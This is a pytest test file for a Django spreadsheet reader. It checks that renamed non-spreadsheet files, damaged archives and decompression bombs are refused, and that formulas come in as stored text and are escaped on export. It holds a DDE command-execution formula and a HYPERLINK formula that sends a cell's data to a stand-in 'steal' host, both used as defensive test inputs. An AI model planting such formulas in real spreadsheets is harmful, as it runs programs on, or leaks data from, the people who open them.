"""Hostile files, beside those of the size checks (test_excel_sizes.py) and the reader's (test_excel_reader.py).

Empty files and other kinds of file renamed .xlsx; a compressed part whose bytes were damaged;
shared strings that unpack far beyond the file's size; formulas that would open a link or run a
program (read as the value Excel stored, never evaluated, and escaped when written back); control
and bidirectional characters in cells, read as they are so the import that owns the field refuses
them with their code points.
"""

import io
import re
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
import xlsxwriter
from django.utils import translation

from core.excel.importing import rejected_rows_file
from core.excel.reader import SpreadsheetRefused, read_table
from core.tests.excel_files import _rewrite_sheet as rewrite_sheet
from core.tests.excel_files import sheet_file, with_cached_values
from core.tests.test_excel_reader import HEADER, LIMITS, NOT_A_SPREADSHEET, SPEC, UNREADABLE

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run in DOS mode."
# What many web systems call "Excel": an HTML table with an .xls name.
HTML_AS_XLS = "<html><body><table><tr><td>Mã đơn vị</td><td>Số lượng</td></tr></table></body></html>".encode()
DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://example.invalid/steal?d="&A2,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def refusal(data: bytes, **limits) -> list[str]:
    with pytest.raises(SpreadsheetRefused) as refused:
        read_table(data, (SPEC,), **(LIMITS | limits))
    return refused.value.messages


def read(data: bytes):
    return read_table(data, (SPEC,), **LIMITS)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        (PNG, NOT_A_SPREADSHEET),
        (WINDOWS_PROGRAM, NOT_A_SPREADSHEET),
        (HTML_AS_XLS, NOT_A_SPREADSHEET),
        # An old Office container (a .doc, or a broken .xls) that the reader cannot open as a workbook.
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, UNREADABLE),
    ],
    ids=["empty", "png", "exe", "html", "ole not a workbook"],
)
def test_an_empty_file_or_another_kind_of_file_named_xlsx_is_refused(data, message):
    assert refusal(data) == [message]


def test_a_damaged_compressed_part_is_refused_not_a_zlib_error():
    """A byte changed inside the deflated sheet: zlib fails before the zip's CRC check would."""
    data = bytearray(sheet_file([HEADER, ["A", 1, date(2025, 1, 1), "Khác"]]))
    start = data.index(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    data[start + 2] ^= 0xFF  # the first bytes of the deflate stream: an invalid block type
    assert refusal(bytes(data)) == [UNREADABLE]


def shared_strings_workbook(rows) -> bytes:
    """An .xlsx as Excel saves it, every text in the shared strings; each cell written as it is (text stays text)."""
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out, {"strings_to_formulas": False, "strings_to_numbers": False})
    sheet = workbook.add_worksheet("Dữ liệu")
    for row_number, row in enumerate(rows):
        for column, value in enumerate(row):
            if isinstance(value, date):
                sheet.write_datetime(row_number, column, datetime(value.year, value.month, value.day))
            elif isinstance(value, str):
                sheet.write_string(row_number, column, value)
            else:
                sheet.write(row_number, column, value)
    workbook.close()
    return out.getvalue()


def shared_strings_file(text: str, *, count: int) -> bytes:
    """A real .xlsx whose shared strings hold ``text`` ``count`` times more than its cells use."""
    data = shared_strings_workbook([HEADER, ["A", 1, date(2025, 1, 1), "Khác"]])
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    extra = "".join(f"<si><t>{text}</t></si>" for _ in range(count)).encode()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/sharedStrings.xml":
                assert b"</sst>" in content
                content = content.replace(b"</sst>", extra + b"</sst>")
            target.writestr(item, content)
    return out.getvalue()


def test_shared_strings_that_unpack_far_beyond_the_limit_are_refused():
    data = shared_strings_file("A" * 1_000_000, count=30)  # 30 MB of text in a file of a few hundred KB
    assert len(data) < 1_000_000
    assert refusal(data, max_unpacked_bytes=20 * 1024 * 1024) == [
        "This file unpacks to more than 20 MB, which no spreadsheet of its size does; it was refused."
    ]


def test_many_shared_strings_within_the_limit_are_read():
    table = read(shared_strings_file("lặp lại", count=200_000))
    assert [row.values["code"] for row in table.rows] == ["A"]


def test_formulas_are_read_as_the_value_excel_stored_never_as_a_formula_to_run():
    day = date(2025, 1, 1)
    rows = [[*HEADER, "Ghi chú"], ["A", 1, day, "Khác", HYPERLINK], ["B", 2, day, "Khác", DDE]]
    data = with_cached_values(sheet_file(rows), sheet_index=1, values={"E2": "Bấm vào đây"})
    data = _as_text_result(data, "E2")
    table = read(data)
    # The link's formula stored its text: that text is the value. The DDE call stored nothing: empty.
    assert [row.values["note"] for row in table.rows] == ["Bấm vào đây", None]


def _as_text_result(data: bytes, ref: str) -> bytes:
    """Mark a formula cell's stored value as text (t="str"), as Excel does for a formula that gives text."""
    return rewrite_sheet(data, lambda xml: re.sub(rf'<c r="{ref}"( t="[^"]*")?', f'<c r="{ref}" t="str"', xml))


def test_a_formula_typed_as_text_is_read_as_text_and_written_back_escaped():
    """A cell whose text is "=cmd|..." comes in as that text; the rejected-rows file does not make it a formula."""
    rows = [[*HEADER, DDE], [DDE, "nhiều", date(2025, 1, 1), "Khác", "@SUM(1+1)"]]
    table = read(shared_strings_workbook(rows))
    assert table.rows[0].values["code"] == "=cmd|'/C" + "calc'!A0"  # a code: its spaces dropped
    rejected = openpyxl.load_workbook(io.BytesIO(rejected_rows_file(table, table.problems))).active
    cells = [[cell.value for cell in row] for row in rejected.iter_rows()]
    header, row = cells[1], cells[2]
    assert header[1:6] == [*HEADER, "'" + DDE]  # a header from the user's file is user data too
    assert row[1] == "'" + DDE and row[2] == "nhiều" and row[5] == "'@SUM(1+1)"
    assert all(cell.data_type != "f" for line in rejected.iter_rows() for cell in line)


def test_control_and_bidirectional_characters_in_cells_reach_the_import_as_typed():
    """The reader keeps them (the import of each field refuses them, naming the code point): not stripped unseen."""
    rows = [[*HEADER, "Ghi chú"], ["A\u202e", 1, date(2025, 1, 1), "Khác", "Lê\u0007 Văn\u200b A\u202e"]]
    [row] = read(shared_strings_workbook(rows)).rows
    assert row.values["code"] == "A\u202e"
    assert row.values["note"] == "Lê\u0007 Văn\u200b A\u202e"
